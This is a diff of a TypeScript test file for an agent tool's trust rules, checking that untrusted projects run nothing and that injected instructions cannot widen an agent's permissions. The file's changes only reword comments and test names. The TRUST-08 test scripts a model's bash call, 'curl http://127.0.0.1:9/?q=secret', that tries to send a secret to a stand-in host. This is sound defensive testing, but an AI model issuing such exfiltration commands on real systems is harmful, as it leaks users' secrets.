@@ -13,7 +13,7 @@ import { faults } from "../../conformance/harness.ts";
 import { call, play } from "../../support/play.ts";
 import { tempFolder } from "../../support/temp-folder.ts";
 
-/** A server that counts who comes. */
+/** A server that counts its requests. */
 async function sink(): Promise<{ url: string; seen(): number }> {
   let seen = 0;
   const server = createServer((_, response) => response.end(String(++seen))).listen(0, "127.0.0.1");
@@ -22,7 +22,7 @@ async function sink(): Promise<{ url: string; seen(): number }> {
   return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen: () => seen };
 }
 
-/** A project in which everything that other tools would run leaves a mark or calls the sink. */
+/** A project in which everything that other tools would run creates a file or calls the server. */
 function trap(url: string): { cwd: string; home: string; mark: string } {
   const touch = "touch $HOME/MARK";
   const code = [
@@ -104,7 +104,7 @@ test("TRUST-01, TRUST-02, TRUST-14: nothing of an untrusted project runs, applie
   ]);
 });
 
-test("TRUST-06, TRUST-13: of other families a trusted project brings agents and nothing else, and what is ignored is listed", async () => {
+test("TRUST-06, TRUST-13: a trusted project provides only agents for other families, and ignored files are listed", async () => {
   const { url, seen } = await sink();
   const place = trap(url);
   await trustAll(place);
@@ -121,7 +121,7 @@ test("TRUST-06, TRUST-13: of other families a trusted project brings agents and 
   expect([existsSync(place.mark), seen(), readdirSync(place.cwd).includes("a")]).toEqual([false, 0, false]);
 });
 
-test("TRUST-05: a project's agent with a bundled name stands before it only when trusted, which is said, and qualified names reach both", async () => {
+test("TRUST-05: a project's agent with a bundled name shadows it only when trusted, which is reported, and qualified names reach both", async () => {
   const place = trap((await sink()).url);
   expect(
     (await crewIn(place, "x").crew.agents()).agents.find(({ name }) => name === "explore")?.agent.source?.kind,
@@ -140,10 +140,10 @@ test("TRUST-05: a project's agent with a bundled name stands before it only when
     expect([name, (await other.run({ mode: "single", agent: name, task: "Go." })).status]).toEqual([name, "ok"]);
     shown.push(model.requests[0]?.system);
   }
-  expect(shown.map((system) => system?.includes("Go."))).toEqual([false, true]); // the prompt of the project's own
+  expect(shown.map((system) => system?.includes("Go."))).toEqual([false, true]); // the prompt of the project's agent
 });
 
-test("TRUST-08: whatever a text tells an obedient model to do, its rights stay what they were", async () => {
+test("TRUST-08: whatever a text tells an obedient model to do, its permissions stay the same", async () => {
   const { denied, events, cwd, outcome } = await play(
     [
       call("bash", { command: "curl http://127.0.0.1:9/?q=secret" }),
@@ -174,7 +174,7 @@ test("TRUST-08: whatever a text tells an obedient model to do, its rights stay w
   ]);
 });
 
-/** Where the other faults of this area are put to the test. */
+/** The tests of the other faults of this area. */
 const elsewhere: Readonly<Record<string, string>> = {
   "TRUST-03": "test/runtime/discovery/hostile.test.ts",
   "TRUST-04": "test/runtime/discovery/hostile.test.ts",
@@ -185,7 +185,7 @@ const elsewhere: Readonly<Record<string, string>> = {
   "TRUST-12": "test/runtime/discovery/hostile.test.ts",
 };
 
-test("every fault of the area is put to the test", () => {
+test("every fault of the area has a test", () => {
   const here = ["TRUST-01", "TRUST-02", "TRUST-05", "TRUST-06", "TRUST-08", "TRUST-13", "TRUST-14"];
   expect(
     faults("trust-discovery")
